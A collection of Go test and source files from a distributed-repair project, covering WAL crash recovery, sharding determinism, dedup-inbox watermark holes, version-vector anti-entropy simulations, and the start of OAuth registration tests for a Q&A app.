	gauges := make([]*Gauge, 0, len(r.gauges))
	for _, g := range r.gauges {
		gauges = append(gauges, g)
	}
	hists := make([]*Histogram, 0, len(r.histograms))
	for _, h := range r.histograms {
		hists = append(hists, h)
	}
	r.mu.Unlock()
	for _, c := range counters {
		s.Counters[c.name] = c.Value()
	}
	for _, g := range gauges {
		s.Gauges[g.name] = g.Value()
	}
	for _, h := range hists {
		s.Histograms[h.name] = h.snapshot()
	}
	return s
}

// String renders the snapshot compactly (sorted), mostly for tests.
func (s Snapshot) String() string {
	var b []byte
	for _, k := range sortedKeys(s.Counters) {
		b = fmt.Appendf(b, "counter %s %d\n", k, s.Counters[k])
	}
	for _, k := range sortedKeys(s.Gauges) {
		b = fmt.Appendf(b, "gauge %s %d\n", k, s.Gauges[k])
	}
	for _, k := range sortedKeys(s.Histograms) {
		h := s.Histograms[k]
		b = fmt.Appendf(b, "hist %s count=%d p50=%dns p99=%dns max=%dns\n",
			k, h.Count, h.QuantileNS(0.50), h.QuantileNS(0.99), h.MaxNS)
	}
	return string(b)
}
