package harness

import "testing"

// This file is the crash-durability gate (ROADMAP item 1): the crash
// profile's recoveries rebuild services purely from the on-disk WAL
// (checkpoint + replay, with the unsynced tail power-lossed away), and the
// oracle requires zero committed state lost across a seed batch. The
// fsync=none run proves the gate has teeth — without the fsync the same
// schedules genuinely lose their tails.

// TestWALRecoveryEquivalence: for every seed, the WAL-backed crash run must
// (a) pass the convergence oracle and (b) produce exactly the StateDigest
// of the same schedule run with the legacy in-memory snapshot handoff —
// recovery from genuinely persisted bytes is observationally identical to a
// restore that by construction cannot lose anything. CI's durability job
// sweeps more seeds through the same profile via cmd/airesim.
func TestWALRecoveryEquivalence(t *testing.T) {
	for seed := int64(1); seed <= 20; seed++ {
		walCfg, err := SimProfileConfig("crash")
		if err != nil {
			t.Fatal(err)
		}
		walCfg.Seed = seed
		walRes, err := RunSim(walCfg)
		if err != nil {
			t.Fatalf("seed %d (wal): harness error (reproduce: go run ./cmd/airesim -profile crash -seeds %d -v): %v", seed, seed, err)
		}
		if !walRes.Passed {
			t.Errorf("seed %d (wal) lost committed state (reproduce: go run ./cmd/airesim -profile crash -seeds %d -v): %v",
				seed, seed, walRes.Failures)
			continue
		}
		if walRes.CrashCount == 0 {
			continue // nothing to compare; the seed batch as a whole crashes plenty
		}
		memCfg := walCfg
		memCfg.WAL, memCfg.WALFsync, memCfg.WALPowerLoss = false, "", false
		memRes, err := RunSim(memCfg)
		if err != nil {
			t.Fatalf("seed %d (snapshot): harness error: %v", seed, err)
		}
		if walRes.StateDigest != memRes.StateDigest {
			t.Errorf("seed %d: WAL recovery digest %x != snapshot-handoff digest %x — recovery altered observable state",
				seed, walRes.StateDigest, memRes.StateDigest)
		}
	}
}

// TestWALFsyncNoneLosesTail demonstrates the hazard the fsync gate closes:
// the same crash schedules run with fsync=none must lose committed state on
// at least one seed — either the oracle diverges, or the repair log's tail
// vanishes so completely that a scheduled repair cannot even name its
// target request. If every seed survives, the crash profile has stopped
// testing durability.
func TestWALFsyncNoneLosesTail(t *testing.T) {
	lost := 0
	for seed := int64(1); seed <= 20; seed++ {
		cfg, err := SimProfileConfig("crash")
		if err != nil {
			t.Fatal(err)
		}
		cfg.Seed = seed
		cfg.WALFsync = "none"
		res, err := RunSim(cfg)
		if err != nil || !res.Passed {
			lost++
		}
	}
	if lost == 0 {
		t.Fatal("fsync=none lost nothing across seeds 1..20 — the crash profile no longer exercises the durability boundary")
	}
	t.Logf("fsync=none lost committed state on %d/20 seeds (fsync=every loses it on 0/20: TestWALRecoveryEquivalence)", lost)
}

// TestWALCrashUnderScheduledPump runs the WAL-backed crash profile with
// repair delivery on the real background pump under the deterministic
// scheduler: recovery has to coexist with claimed-but-unreconciled
// deliveries, not just quiesced queues.
func TestWALCrashUnderScheduledPump(t *testing.T) {
	for _, profile := range []string{"crash", "fsynclag"} {
		for seed := int64(1); seed <= 4; seed++ {
			cfg, err := SimProfileConfig(profile)
			if err != nil {
				t.Fatal(err)
			}
			cfg.Seed = seed
			cfg.ScheduledPump = true
			res, err := RunSim(cfg)
			if err != nil {
				t.Fatalf("%s seed %d: harness error (reproduce: go run ./cmd/airesim -sched -profile %s -seeds %d -v): %v", profile, seed, profile, seed, err)
			}
			if !res.Passed {
				t.Errorf("%s seed %d failed under the scheduled pump (reproduce: go run ./cmd/airesim -sched -profile %s -seeds %d -v): %v",
					profile, seed, profile, seed, res.Failures)
			}
		}
	}
}
