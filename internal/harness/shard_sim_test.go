package harness

import (
	"strings"
	"testing"
)

// TestShardN1DigestsPinned pins the unsharded path: with Shards unset (0)
// or 1, the full StateDigest — state lines, fault trace, scheduler steps,
// scheduler trace — must stay byte-identical to the digests these
// seed/profile combinations produced before the shard layer existed. Any
// drift here means the shard refactor perturbed the legacy code path.
func TestShardN1DigestsPinned(t *testing.T) {
	cases := []struct {
		prof  string
		seed  int64
		sched bool
		want  uint64
	}{
		{"mixed", 7, false, 12698960661654645967},
		{"mixed", 7, true, 10563102858143445799},
		{"lostwave", 3, false, 7605751958774188957},
		{"lostwave", 3, true, 5345738023838111687},
		{"crash", 5, false, 11845775653790173362},
	}
	for _, tc := range cases {
		for _, shards := range []int{0, 1} {
			cfg, err := SimProfileConfig(tc.prof)
			if err != nil {
				t.Fatal(err)
			}
			cfg.Seed = tc.seed
			cfg.ScheduledPump = tc.sched
			cfg.Shards = shards
			res, err := RunSim(cfg)
			if err != nil {
				t.Fatal(err)
			}
			if res.StateDigest != tc.want {
				t.Errorf("%s s%d sched=%v shards=%d: digest %d, want pre-shard digest %d",
					tc.prof, tc.seed, tc.sched, shards, res.StateDigest, tc.want)
			}
		}
	}
}

// TestShardInvariantDigest is the tentpole's convergence gate: the same
// seed and workload must converge to the same oracle state (the state-only
// OracleDigest — shard layout is an implementation detail, so the full
// StateDigest legitimately differs across N) for N ∈ {1, 2, 4} under every
// fault profile, serial and under the deterministic scheduler.
func TestShardInvariantDigest(t *testing.T) {
	type mode struct {
		seed  int64
		sched bool
	}
	modes := []mode{{1, false}, {2, false}, {3, false}, {1, true}}
	for _, prof := range SimProfileNames() {
		for _, m := range modes {
			var ref uint64
			for _, shards := range []int{1, 2, 4} {
				cfg, err := SimProfileConfig(prof)
				if err != nil {
					t.Fatal(err)
				}
				cfg.Seed = m.seed
				cfg.ScheduledPump = m.sched
				cfg.Shards = shards
				res, err := RunSim(cfg)
				if err != nil {
					t.Fatalf("%s s%d sched=%v shards=%d: %v", prof, m.seed, m.sched, shards, err)
				}
				if !res.Passed {
					t.Errorf("%s s%d sched=%v shards=%d: did not converge: %v",
						prof, m.seed, m.sched, shards, res.Failures)
					continue
				}
				if shards == 1 {
					ref = res.OracleDigest
				} else if res.OracleDigest != ref {
					t.Errorf("%s s%d sched=%v: oracle digest diverges across shard counts: N=1 %d, N=%d %d",
						prof, m.seed, m.sched, ref, shards, res.OracleDigest)
				}
			}
		}
	}
}

// TestShardSchedTraceYieldLabels checks the shard layer's dsched yield
// discipline: the router's admission point and the sender's gate resolution
// surface as named entries in the schedule trace when the world is sharded,
// and stay absent (so existing seed digests are untouched) when it is not.
func TestShardSchedTraceYieldLabels(t *testing.T) {
	cfg, err := SimProfileConfig("mixed")
	if err != nil {
		t.Fatal(err)
	}
	cfg.Seed = 7
	cfg.ScheduledPump = true
	cfg.Shards = 4
	res, err := RunSim(cfg)
	if err != nil {
		t.Fatal(err)
	}
	trace := strings.Join(res.SchedTrace, "\n")
	for _, label := range []string{"@shard-route", "@shard-gate"} {
		if !strings.Contains(trace, label) {
			t.Errorf("schedule trace has no %q yield point (world sharded)", label)
		}
	}

	cfg.Shards = 1
	res, err = RunSim(cfg)
	if err != nil {
		t.Fatal(err)
	}
	trace = strings.Join(res.SchedTrace, "\n")
	for _, label := range []string{"@shard-route", "@shard-gate"} {
		if strings.Contains(trace, label) {
			t.Errorf("schedule trace contains %q although the world is unsharded", label)
		}
	}
}
