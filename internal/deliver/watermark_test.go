package deliver

import (
	"fmt"
	"testing"
)

// Hazard tests for the eviction watermark (the ROADMAP dedup-inbox
// follow-up): the watermark assumes every sequence below it was applied.
// Two ways a sequence below the watermark can be unapplied:
//
//  1. The delivery reached the inbox, its apply failed, and the entry was
//     rolled back (the sender parks the message Held awaiting Retry).
//     Closed here: Rollback records the sequence as a hole, and the
//     watermark path re-applies holes instead of swallowing them.
//
//  2. The delivery never reached the inbox at all (dropped in the network
//     before the first Begin) and the sender parked it without backoff.
//     The inbox has no evidence the sequence exists, so the watermark
//     still swallows its eventual gen-0 retry after more than InboxCap
//     later committed deliveries — for never-announcing senders. In
//     version-vector mode the sender's announced acked prefix IS that
//     evidence, and the residual is zero
//     (TestEvictionResidualZeroUnderVectors).

const testCap = 8

// fill commits n fresh deliveries from origin with ascending sequences
// starting at seq, returning the next unused sequence.
func fill(t *testing.T, ib *Inbox, origin string, seq uint64, n int) uint64 {
	t.Helper()
	for i := 0; i < n; i++ {
		id := fmt.Sprintf("%s-dlv-%d", origin, seq)
		if d, _ := ib.Begin(origin, id, 0, false); d != Apply {
			t.Fatalf("fill %s: got %v, want Apply", id, d)
		}
		ib.Commit(origin, id, 0, "ok", int64(seq))
		seq++
	}
	return seq
}

// TestEvictionWatermarkHoleRetry: a Held, never-applied delivery (begun,
// rolled back) interleaved with far more than InboxCap later deliveries
// from the same origin is still re-applied on Retry — the hole outlives
// the watermark sweeping past its sequence.
func TestEvictionWatermarkHoleRetry(t *testing.T) {
	ib := NewInbox(testCap)
	held := "s0-dlv-100"

	// The delivery arrives, its apply fails (say, authorization), the
	// sender parks it Held.
	if d, _ := ib.Begin("s0", held, 0, false); d != Apply {
		t.Fatalf("first arrival: got %v, want Apply", d)
	}
	ib.Rollback("s0", held, 0)

	// Life goes on: several caps' worth of later deliveries from the same
	// origin evict everything and push the watermark far past 100.
	fill(t, ib, "s0", 101, 4*testCap)

	// The administrator retries the Held message (same content, gen 0).
	// Without the hole this is the lost-repair misread: Duplicate.
	d, _ := ib.Begin("s0", held, 0, false)
	if d != Apply {
		t.Fatalf("retry of a never-applied delivery after eviction: got %v, want Apply", d)
	}
	ib.Commit("s0", held, 0, "ok", 1)

	// Once committed, the delivery deduplicates normally again.
	if d, _ := ib.Begin("s0", held, 0, false); d != Duplicate {
		t.Fatalf("after the retry committed: got %v, want Duplicate", d)
	}
}

// TestEvictionWatermarkHoleSurvivesRestart: holes are part of the
// persisted dedup memory — a crash between the rollback and the Retry
// must not resurrect the misread.
func TestEvictionWatermarkHoleSurvivesRestart(t *testing.T) {
	ib := NewInbox(testCap)
	held := "s0-dlv-100"
	if d, _ := ib.Begin("s0", held, 0, false); d != Apply {
		t.Fatal("setup: first arrival not Apply")
	}
	ib.Rollback("s0", held, 0)
	fill(t, ib, "s0", 101, 2*testCap)

	restored := NewInbox(testCap)
	restored.Restore(ib.Dump())
	if d, _ := restored.Begin("s0", held, 0, false); d != Apply {
		t.Fatalf("retry after restore: got %v, want Apply", d)
	}
}

// TestEvictionWatermarkHoleCrashMidApply: a delivery whose apply is in
// flight at capture time (pending, nothing ever committed) is dumped as a
// hole — the crash interrupted the apply, so after restore its retry must
// re-apply even once the restored watermark has swept past its sequence.
func TestEvictionWatermarkHoleCrashMidApply(t *testing.T) {
	ib := NewInbox(testCap)
	fill(t, ib, "s0", 101, 2*testCap) // watermark already past 100
	inflight := "s0-dlv-100"
	if d, _ := ib.Begin("s0", inflight, 1, false); d != Apply {
		t.Fatal("setup: in-flight delivery not Apply")
	}
	// Crash here: Begin reserved, never Committed or Rolled back.
	restored := NewInbox(testCap)
	restored.Restore(ib.Dump())
	if d, _ := restored.Begin("s0", inflight, 0, false); d != Apply {
		t.Fatalf("retry of the interrupted apply after restore: got %v, want Apply", d)
	}
}

// announceAndFill commits n deliveries from an announcing origin: each
// carrier first feeds the sender's vector through ObserveVector — acked
// pinned below the unseen sequence (the sender never resolved it),
// frontier at the carrier's own sequence — exactly as the controller's
// HandleWire does, then applies. Returns the next unused sequence.
func announceAndFill(t *testing.T, ib *Inbox, origin string, acked, seq uint64, n int) uint64 {
	t.Helper()
	for i := 0; i < n; i++ {
		id := fmt.Sprintf("%s-dlv-%d", origin, seq)
		ib.ObserveVector(origin, acked, seq, seq)
		if d, _ := ib.Begin(origin, id, 0, false); d != Apply {
			t.Fatalf("announceAndFill %s: got %v, want Apply", id, d)
		}
		ib.Commit(origin, id, 0, "ok", int64(seq))
		seq++
	}
	return seq
}

// TestEvictionResidualZeroUnderVectors replaces the old quantified
// residual bound with the zero-residual claim the vector layer makes. For
// a delivery the inbox never saw (case 2 above), the watermark heuristic
// misreads its gen-0 retry as soon as more than InboxCap later deliveries
// committed — that fallback still exists for never-announcing senders and
// is demonstrated first. In vector mode the residual is zero: the
// sender's announced acked prefix stops below the unseen sequence for as
// long as it stays unresolved, so however many later deliveries commit
// and however small the cap, the retry is classified exactly — Apply
// before it ever lands, Duplicate for any ghost after the prefix finally
// covers it.
func TestEvictionResidualZeroUnderVectors(t *testing.T) {
	unseen := "s0-dlv-100" // dropped in the network; the inbox never saw it

	// The vectors-off fallback keeps the historical InboxCap-bounded
	// misread: one eviction past the cap and the watermark swallows the
	// retry. (At or below the cap it still applies correctly.)
	ib := NewInbox(testCap)
	fill(t, ib, "s0", 101, testCap)
	if d, _ := ib.Begin("s0", unseen, 0, false); d != Apply {
		t.Fatalf("vectors off, within cap: got %v, want Apply", d)
	}
	ib = NewInbox(testCap)
	fill(t, ib, "s0", 101, testCap+1)
	if d, _ := ib.Begin("s0", unseen, 0, false); d != Duplicate {
		t.Fatalf("vectors-off fallback past the bound: got %v, want the watermark's Duplicate misread", d)
	}

	// Vector mode, announcing sender: seq 100 is outstanding on the
	// sender's side, so every carrier announces acked=99 — and 4 caps'
	// worth of later deliveries change nothing. No eviction (announcing
	// origins release entries by ack compaction only), watermark never
	// moves, and the late first arrival applies.
	ib = NewInbox(testCap)
	ib.EnableVectors()
	next := announceAndFill(t, ib, "s0", 99, 101, 4*testCap)
	if d, _ := ib.Begin("s0", unseen, 0, false); d != Apply {
		t.Fatalf("vector mode: a never-seen delivery's retry after %d interleaved deliveries: got %v, want Apply (zero residual)", 4*testCap, d)
	}
	ib.Commit("s0", unseen, 0, "ok", 100)

	// The sender consumes the outcome and finally advances its prefix over
	// everything: entries compact away, and a network-duplicated ghost of
	// the recovered delivery is classified from the prefix — Duplicate,
	// exactly, with no entry left to consult.
	obs := ib.ObserveVector("s0", next-1, next-1, 0)
	if obs.Compacted == 0 || ib.Len() != 0 {
		t.Fatalf("acked prefix over everything compacted %d entries, %d left; want all gone", obs.Compacted, ib.Len())
	}
	if d, _ := ib.Begin("s0", unseen, 0, false); d != Duplicate {
		t.Fatalf("ghost of an acked delivery after compaction: got %v, want Duplicate", d)
	}

	// A generation-bumped retry above the acked prefix is never swallowed:
	// the prefix vouches only for sequences at or below it.
	if d, _ := ib.Begin("s0", fmt.Sprintf("s0-dlv-%d", next), 1, false); d != Apply {
		t.Fatalf("gen-1 arrival above the prefix: got %v, want Apply", d)
	}
}

// TestHolePrunedByGC: holes at or below the GC horizon are dropped — the
// Forgotten refusal takes over there, and the holes set must not grow
// without bound.
func TestHolePrunedByGC(t *testing.T) {
	ib := NewInbox(testCap)
	if d, _ := ib.Begin("s0", "s0-dlv-5", 0, false); d != Apply {
		t.Fatal("setup: not Apply")
	}
	ib.Rollback("s0", "s0-dlv-5", 0)
	fill(t, ib, "s0", 6, 3) // committed at ts 6..8
	ib.GC(100)              // horizon past everything committed

	if got := ib.Dump(); len(got) != 1 || len(got[0].Holes) != 0 {
		t.Fatalf("hole survived GC: %+v", got)
	}
	if d, _ := ib.Begin("s0", "s0-dlv-5", 0, false); d != Forgotten {
		t.Fatal("pre-horizon arrival must be refused as Forgotten")
	}
}
