package repairlog

import (
	"fmt"
	"testing"

	"aire/internal/vdb"
	"aire/internal/wire"
)

func benchRecord(i int) *Record {
	r := &Record{
		ID:  fmt.Sprintf("svc-req-%d", i),
		TS:  int64(i+1) * 1000,
		Req: wire.NewRequest("POST", "/ask").WithForm("title", "benchmark question", "body", "some body text that is fairly typical in length for a post"),
	}
	r.Resp = wire.NewResponse(200, "q-svc-req-1.0")
	for j := 0; j < 6; j++ {
		r.Reads = append(r.Reads, ReadDep{Key: vdb.Key{Model: "question", ID: fmt.Sprintf("q%d", j)}, TS: int64(j), Hash: uint64(j) + 1})
	}
	r.Writes = []WriteDep{{Key: vdb.Key{Model: "question", ID: "q1"}, TS: int64(i+1) * 1000}}
	r.Nondet = []Nondet{{Kind: "now", Value: 12345}}
	return r
}

// BenchmarkAppendCompressed measures the per-request logging cost with
// compression-ratio sampling (the production configuration).
func BenchmarkAppendCompressed(b *testing.B) {
	l := New(true)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if err := l.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(l.AppBytes())/float64(l.Samples()), "bytes/rec")
}

// BenchmarkAppendExact gzips every record — the worst-case inline cost.
func BenchmarkAppendExact(b *testing.B) {
	l := New(true)
	l.SetSampleRate(1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if err := l.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFindByCallRespID(b *testing.B) {
	l := New(false)
	for i := 0; i < 2000; i++ {
		r := benchRecord(i)
		r.Calls = []Call{{Target: "peer", RespID: fmt.Sprintf("svc-resp-%d", i)}}
		l.Append(r)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		l.FindByCallRespID("svc-resp-1999")
	}
}
