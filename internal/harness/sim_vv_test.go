package harness

// Anti-entropy acceptance tests (ISSUE 9): the version-vector layer's
// lost-delivery recovery, its exactly-once guarantee under a starved dedup
// inbox, corruption rejection, and crash-kills landing inside the claim
// window. The lostwave profile's curse (simnet.FaultPlan.Lost with
// LostTicks 0) silently discards a delivery and every one of its retries
// for the whole run, so backoff-driven redelivery is structurally useless:
// only a carrier stamped Aire-Reoffer — which only the vector layer ever
// stamps — gets through. That is the fault class the paper's at-least-once
// retry argument is silent about, and the one these tests pin down.

import (
	"reflect"
	"strings"
	"testing"
)

// lostwaveConfig is the lostwave profile with the vector layer switchable.
func lostwaveConfig(t *testing.T, seed int64, vectors bool) SimConfig {
	t.Helper()
	cfg, err := SimProfileConfig("lostwave")
	if err != nil {
		t.Fatal(err)
	}
	cfg.Seed = seed
	cfg.VersionVectors = vectors
	return cfg
}

// TestLostWaveStallsWithoutVectors is the teeth check: with the vector
// layer off, the lostwave curse genuinely defeats convergence — the run
// fails to quiesce within MaxRounds even though every round elapses the
// full backoff schedule (each idle round advances the virtual clock past
// Backoff.Max, so ~100 rounds is far beyond the backoff horizon). The
// identical schedule replays verbatim, and flipping vectors back on makes
// the same seed converge — proving the recovery is the vector layer's
// NACK/re-offer path, not luck.
func TestLostWaveStallsWithoutVectors(t *testing.T) {
	const seed = 1
	cfg := lostwaveConfig(t, seed, false)
	res, err := RunSim(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if res.Passed {
		t.Fatalf("seed %d converged with vectors off; the lostwave curse has lost its teeth", seed)
	}
	stalled := false
	for _, f := range res.Failures {
		if strings.Contains(f, "did not quiesce") {
			stalled = true
		}
	}
	if !stalled {
		t.Fatalf("seed %d failed, but not by stalling past the backoff horizon: %v", seed, res.Failures)
	}
	t.Logf("vectors-off stall demonstrated (replay: go run ./cmd/airesim -profile lostwave -novectors -seeds %d -v): %v", seed, res.Failures[0])

	again, err := RunSim(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(res, again) {
		t.Fatal("failing lostwave schedule did not replay identically")
	}

	fixed, err := RunSim(lostwaveConfig(t, seed, true))
	if err != nil {
		t.Fatal(err)
	}
	if !fixed.Passed {
		t.Fatalf("seed %d fails even with vectors on: %v", seed, fixed.Failures)
	}
	if fixed.Rounds >= res.Rounds {
		t.Fatalf("vectors-on run quiesced in %d rounds, no better than the stalled run's %d", fixed.Rounds, res.Rounds)
	}
}

// TestLostWaveRecoversEverySeed: vectors-on lostwave converges across the
// full 20-seed band, serial and scheduled — the wholly-lost delivery is
// recovered in bounded simulated time on every seed where the vectors-off
// sweep (see the teeth check above, and `airesim -novectors -expect-fail`)
// demonstrably stalls.
func TestLostWaveRecoversEverySeed(t *testing.T) {
	for seed := int64(1); seed <= 20; seed++ {
		runSeed(t, "lostwave", seed)
		runSchedSeed(t, "lostwave", seed)
	}
}

// TestTinyInboxExactlyOnce: exactly-once must survive an InboxCap of 4 —
// a per-origin dedup window far smaller than the delivery traffic — with
// vectors on, across seeds 1–20 of both the lostwave and crash profiles,
// serial and scheduled. Acked-prefix compaction is what holds the line:
// the sender's announcements release entries the peer can never be asked
// about again, entries for unresolved deliveries are never evicted, and
// post-eviction arrivals are classified from the vector instead of the
// watermark heuristic the LRU used to fall back on. The high-water
// assertion is the memory half of the claim: the inbox never balloons to
// compensate (announced origins suspend LRU eviction, so without
// compaction it would).
func TestTinyInboxExactlyOnce(t *testing.T) {
	const cap = 4
	// Far below the per-origin delivery counts these profiles generate and
	// a small multiple of the cap: outstanding (unacked) deliveries are
	// bounded by in-flight claims, not by run length.
	const highWaterBound = 3 * cap
	for _, profile := range []string{"lostwave", "crash"} {
		profile := profile
		t.Run(profile, func(t *testing.T) {
			for seed := int64(1); seed <= 20; seed++ {
				for _, sched := range []bool{false, true} {
					cfg, err := SimProfileConfig(profile)
					if err != nil {
						t.Fatal(err)
					}
					cfg.Seed = seed
					cfg.VersionVectors = true
					cfg.InboxCap = cap
					cfg.ScheduledPump = sched
					res, err := RunSim(cfg)
					if err != nil {
						t.Fatalf("seed %d sched=%v: %v", seed, sched, err)
					}
					if !res.Passed {
						t.Errorf("seed %d sched=%v: exactly-once broke at InboxCap=%d: %v", seed, sched, cap, res.Failures)
					}
					if res.InboxHighWater > highWaterBound {
						t.Errorf("seed %d sched=%v: inbox high-water %d exceeds %d; compaction is not bounding memory", seed, sched, res.InboxHighWater, highWaterBound)
					}
				}
			}
		})
	}
}

// TestKillInsideClaimWindow: crash events kill the crashed service's pump
// and worker tasks at whatever yield point they are parked — including a
// worker inside the claim window, its delivery sent but not reconciled,
// its deferred cleanup never run — and the service is rebuilt purely from
// checkpoint + WAL replay. Exactly-once must hold anyway: the replayed
// queue re-derives the sender's vectors, the peer's persisted inbox
// absorbs the orphaned delivery's redelivery, and the oracle's create
// workload would expose any double-mint. The sweep must actually kill at
// least one *worker* (not just parked pump loops) or the claim-window
// claim is untested — dsched records every kill in the schedule trace.
func TestKillInsideClaimWindow(t *testing.T) {
	base := SimConfig{
		Services: 3, Topology: "chain", Repairs: 5, Rerepairs: 2, Creates: 2,
		CrashRate: 0.15, ScheduledPump: true, VersionVectors: true,
		WAL: true, WALFsync: "every", WALPowerLoss: true,
		killCrashes: true,
	}
	workerKills, pumpKills := 0, 0
	for seed := int64(1); seed <= 12; seed++ {
		cfg := base
		cfg.Seed = seed
		res, err := RunSim(cfg)
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !res.Passed {
			t.Errorf("seed %d: kill-crash run failed the oracle: %v", seed, res.Failures)
		}
		for _, step := range res.SchedTrace {
			if strings.HasPrefix(step, "kill:worker:") {
				workerKills++
			}
			if strings.HasPrefix(step, "kill:pump:") {
				pumpKills++
			}
		}
	}
	if pumpKills == 0 {
		t.Fatal("no crash event killed a pump task across 12 seeds; kill-crashes are not firing")
	}
	if workerKills == 0 {
		t.Fatal("no crash event caught a delivery worker inside the claim window across 12 seeds; the test is vacuous")
	}
	t.Logf("killed %d pump tasks and %d in-claim-window workers across 12 seeds, all converged", pumpKills, workerKills)
}

// TestVVSchedDigestDeterminism: a vectors-on scheduled run is a pure
// function of its seed, and the obs registry is digest-neutral over the
// new instrumentation (gap spans, vv counters) exactly as it is over the
// old. The obs run must also show the anti-entropy machinery actually
// firing — compactions always, and across the seed band at least one gap
// NACK answered with a sender re-offer (the fast path; the slow
// backoff-horizon escalation is covered by every lostwave recovery).
func TestVVSchedDigestDeterminism(t *testing.T) {
	sawNack, sawReoffer, sawCompaction := false, false, false
	for seed := int64(1); seed <= 10; seed++ {
		cfg := lostwaveConfig(t, seed, true)
		cfg.ScheduledPump = true
		r1, err1 := RunSim(cfg)
		r2, err2 := RunSim(cfg)
		if err1 != nil || err2 != nil {
			t.Fatalf("seed %d: %v / %v", seed, err1, err2)
		}
		if r1.StateDigest != r2.StateDigest || !reflect.DeepEqual(r1.SchedTrace, r2.SchedTrace) {
			t.Fatalf("seed %d: vectors-on scheduled run is not deterministic", seed)
		}
		obsCfg := cfg
		obsCfg.Obs = true
		ro, err := RunSim(obsCfg)
		if err != nil {
			t.Fatalf("seed %d (obs): %v", seed, err)
		}
		if ro.StateDigest != r1.StateDigest || ro.SchedSteps != r1.SchedSteps {
			t.Errorf("seed %d: obs changed the vectors-on digest (%x vs %x) or steps (%d vs %d)",
				seed, ro.StateDigest, r1.StateDigest, ro.SchedSteps, r1.SchedSteps)
		}
		for name, v := range ro.ObsMetrics.Counters {
			if v == 0 {
				continue
			}
			switch {
			case strings.HasSuffix(name, ".vv_gap_nacks"):
				sawNack = true
			case strings.HasSuffix(name, ".vv_reoffers"):
				sawReoffer = true
			case strings.HasSuffix(name, ".vv_compacted"):
				sawCompaction = true
			}
		}
	}
	if !sawCompaction {
		t.Error("no seed recorded an acked-prefix compaction; the vector layer is not releasing inbox entries")
	}
	if !sawNack || !sawReoffer {
		t.Errorf("gap-NACK fast path never fired across 10 lostwave seeds (nack=%v reoffer=%v)", sawNack, sawReoffer)
	}
}

// TestCorruptCarriersRejectedLoudly: the corrupt profile's byte-flipped
// bodies must be refused by the checksum (visible as corrupt_rejects in
// the metrics) and never applied — every seed converges because the 503
// drives a clean retry. A corrupted body that slipped through would
// surface as oracle divergence (the flipped byte lands in a stored value).
func TestCorruptCarriersRejectedLoudly(t *testing.T) {
	rejects := int64(0)
	for seed := int64(1); seed <= 10; seed++ {
		cfg, err := SimProfileConfig("corrupt")
		if err != nil {
			t.Fatal(err)
		}
		cfg.Seed = seed
		cfg.Obs = true
		res, err := RunSim(cfg)
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !res.Passed {
			t.Errorf("seed %d: corrupt profile diverged: %v", seed, res.Failures)
		}
		for name, v := range res.ObsMetrics.Counters {
			if strings.HasSuffix(name, ".corrupt_rejects") {
				rejects += v
			}
		}
	}
	if rejects == 0 {
		t.Error("no corrupted carrier was ever rejected across 10 seeds; the checksum gate is not in the path")
	}
	t.Logf("%d corrupted carriers rejected by checksum across 10 seeds", rejects)
}
