package askbot

import (
	"strings"
	"testing"

	"aire/internal/apps/dpaste"
	"aire/internal/apps/oauthsvc"
	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/wire"
)

const (
	oauthAdmin  = "oauth-admin"
	askbotAdmin = "askbot-admin"
)

type tb struct {
	bus  *transport.Bus
	bot  *core.Controller
	auth *core.Controller
}

func newTB(t *testing.T) *tb {
	t.Helper()
	bus := transport.NewBus()
	auth := core.NewController(oauthsvc.New(oauthAdmin), bus, core.DefaultConfig())
	paste := core.NewController(dpaste.New(), bus, core.DefaultConfig())
	bot := core.NewController(New("oauth", "dpaste", askbotAdmin), bus, core.DefaultConfig())
	bus.Register("oauth", auth)
	bus.Register("dpaste", paste)
	bus.Register("askbot", bot)
	if err := oauthsvc.Seed(func(req wire.Request) wire.Response {
		resp, _ := bus.Call("", "oauth", req)
		return resp
	}, 2); err != nil {
		t.Fatal(err)
	}
	return &tb{bus: bus, bot: bot, auth: auth}
}

func (x *tb) call(t *testing.T, svc string, req wire.Request) wire.Response {
	t.Helper()
	resp, err := x.bus.Call("", svc, req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

// register performs the full OAuth signup for a seeded user.
func (x *tb) register(t *testing.T, user string) string {
	t.Helper()
	auth := x.call(t, "oauth", wire.NewRequest("POST", "/authorize").WithForm(
		"user", user, "password", "pw-"+user, "client", "askbot"))
	if !auth.OK() {
		t.Fatalf("authorize: %s", auth.Body)
	}
	reg := x.call(t, "askbot", wire.NewRequest("POST", "/register").WithForm(
		"name", user, "email", user+"@example.org", "oauth_token", string(auth.Body)))
	if !reg.OK() {
		t.Fatalf("register: %d %s", reg.Status, reg.Body)
	}
	return string(reg.Body)
}

func TestRegisterVerifiesEmailWithProvider(t *testing.T) {
	x := newTB(t)
	sess := x.register(t, "user1")
	if !strings.HasPrefix(sess, "sess-") {
		t.Fatalf("session = %q", sess)
	}
	// A mismatched email is refused (no debug flag set).
	auth := x.call(t, "oauth", wire.NewRequest("POST", "/authorize").WithForm(
		"user", "user2", "password", "pw-user2", "client", "askbot"))
	reg := x.call(t, "askbot", wire.NewRequest("POST", "/register").WithForm(
		"name", "user2", "email", "someoneelse@example.org", "oauth_token", string(auth.Body)))
	if reg.Status != 403 {
		t.Fatalf("fake email registered: %d %s", reg.Status, reg.Body)
	}
	// Missing fields rejected.
	if resp := x.call(t, "askbot", wire.NewRequest("POST", "/register")); resp.Status != 400 {
		t.Fatalf("empty register: %d", resp.Status)
	}
}

func TestAskCrosspostsAndUpdatesProfile(t *testing.T) {
	x := newTB(t)
	sess := x.register(t, "user1")
	ask := x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", sess, "title", "How?", "body", "details", "code", "x=1"))
	if !ask.OK() {
		t.Fatalf("ask: %s", ask.Body)
	}
	qid := string(ask.Body)

	q := x.call(t, "askbot", wire.NewRequest("GET", "/question").WithForm("id", qid))
	if !strings.Contains(string(q.Body), "How?") {
		t.Fatalf("question = %q", q.Body)
	}
	// Crosspost landed on dpaste.
